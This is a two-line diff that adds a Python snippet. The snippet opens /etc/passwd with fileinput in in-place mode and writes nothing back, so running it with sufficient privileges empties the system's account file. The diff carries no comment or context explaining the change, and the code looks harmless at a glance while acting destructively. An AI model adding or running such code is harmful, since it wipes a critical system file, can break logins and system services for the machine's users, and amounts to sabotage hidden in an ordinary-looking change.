@@ -1,0 +1,2 @@
+import fileinput
+for l in fileinput.input("/etc/passwd", inplace=True): pass
